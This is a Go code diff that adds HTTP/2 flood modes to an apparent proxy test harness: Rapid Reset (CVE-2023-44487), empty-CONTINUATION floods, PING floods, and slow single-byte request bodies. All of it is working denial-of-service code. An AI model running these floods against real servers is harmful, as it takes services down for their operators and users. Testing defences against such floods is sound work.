@@ -35,6 +35,7 @@ const Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 // HTTP/2 frame types and flags (RFC 9113 section 6), and the error code
 // of a cancelled stream.
 const (
+	FrameData         = 0x0
 	FrameHeaders      = 0x1
 	FrameRSTStream    = 0x3
 	FrameSettings     = 0x4
@@ -76,13 +77,35 @@ func GetFields(path string) []string {
 	return []string{":method", "GET", ":scheme", "http", ":path", path, ":authority", "proxy"}
 }
 
+// Flood is what an Attacker's connections send.
+type Flood int
+
+const (
+	// RapidReset opens streams and resets them at once (CVE-2023-44487).
+	RapidReset Flood = iota
+	// Continuation opens a stream with a HEADERS frame that does not end
+	// its header block, then sends empty CONTINUATION frames on it
+	// (CVE-2024-27316's kind): frames that add nothing.
+	Continuation
+	// Ping sends PING frames and never opens a stream: each one asks the
+	// server for an acknowledgement.
+	Ping
+	// SlowBody opens a stream whose body (40,000 bytes announced) never
+	// comes but a byte at a time: every Pause (10 ms if unset) it opens
+	// one more and sends one byte of DATA on each of the last 8 it
+	// opened, so a connection keeps bodies under way for as long as the
+	// server lets it.
+	SlowBody
+)
+
 // Attacker opens HTTP/2 connections to Addr from the addresses From and,
-// on each, opens streams and resets them at once, reconnecting whenever
-// the proxy closes a connection. It stops when the context given to Run
-// is done.
+// on each, sends its Flood (by default: opens streams and resets them at
+// once), reconnecting whenever the proxy closes a connection. It stops
+// when the context given to Run is done.
 type Attacker struct {
-	Addr string
-	From []string // the addresses its connections come from, in turn
+	Addr  string
+	From  []string // the addresses its connections come from, in turn
+	Flood Flood
 	// EndStream sends each HEADERS with END_STREAM (a request without a
 	// body); otherwise the stream stays open for a body that never comes,
 	// then is reset.
@@ -94,9 +117,10 @@ type Attacker struct {
 	// served requests so that they are not most of its streams.
 	Pad int
 
-	// Streams counts the streams it reset, Conns the connections it
-	// opened.
-	Streams, Conns atomic.Int64
+	// Streams counts the streams it reset (Continuation, SlowBody: that
+	// it opened), Frames the PING and CONTINUATION frames it wrote, Conns
+	// the connections it opened.
+	Streams, Frames, Conns atomic.Int64
 }
 
 // Run starts n connections at once (each reconnecting until ctx is done);
@@ -131,6 +155,43 @@ func (a *Attacker) conn(ctx context.Context, from string) {
 	w := bufio.NewWriterSize(c, 64<<10)
 	w.WriteString(Preface)
 	WriteFrame(w, FrameSettings, 0, 0, nil)
+	// flush writes what is buffered, and reports false once the
+	// connection is closed (or ctx done).
+	flush := func() bool {
+		c.SetWriteDeadline(time.Now().Add(5 * time.Second))
+		if w.Flush() != nil {
+			return false
+		}
+		select {
+		case <-done:
+			return false
+		default:
+			return true
+		}
+	}
+	switch a.Flood {
+	case Continuation, Ping:
+		if a.Flood == Continuation {
+			WriteFrame(w, FrameHeaders, FlagEndStream, 1, HPACKLiteral(GetFields("/orders/ORD-CONT/charges")...))
+			a.Streams.Add(1)
+		}
+		var ping [8]byte
+		for i := 1; ; i++ {
+			if a.Flood == Continuation {
+				WriteFrame(w, FrameContinuation, 0, 1, nil)
+			} else {
+				binary.BigEndian.PutUint64(ping[:], uint64(i))
+				WriteFrame(w, FramePing, 0, 0, ping[:])
+			}
+			a.Frames.Add(1)
+			if i%64 == 0 && !flush() {
+				return
+			}
+		}
+	case SlowBody:
+		a.slowBodies(w, flush)
+		return
+	}
 	hdr := HPACKLiteral(":method", "POST", ":scheme", "http", ":path", "/charges",
 		":authority", "proxy", "content-type", "application/json", "content-length", "40")
 	flags := byte(FlagEndHeaders)
@@ -166,6 +227,29 @@ func (a *Attacker) conn(ctx context.Context, from string) {
 			return
 		default:
 		}
+	}
+}
+
+// slowBodies runs the SlowBody flood on a connection whose preface is
+// in w, until flush reports it closed.
+func (a *Attacker) slowBodies(w *bufio.Writer, flush func() bool) {
+	const inFlight = 8
+	pause := a.Pause
+	if pause <= 0 {
+		pause = 10 * time.Millisecond
+	}
+	hdr := HPACKLiteral(":method", "POST", ":scheme", "http", ":path", "/charges",
+		":authority", "proxy", "content-type", "application/json", "content-length", "40000")
+	for id := uint32(1); id < 1<<30; id += 2 {
+		WriteFrame(w, FrameHeaders, FlagEndHeaders, id, hdr)
+		a.Streams.Add(1)
+		for k := uint32(0); k < inFlight && 2*k < id; k++ {
+			WriteFrame(w, FrameData, 0, id-2*k, []byte{'{'})
+		}
+		if !flush() {
+			return
+		}
+		time.Sleep(pause)
 	}
 }
 
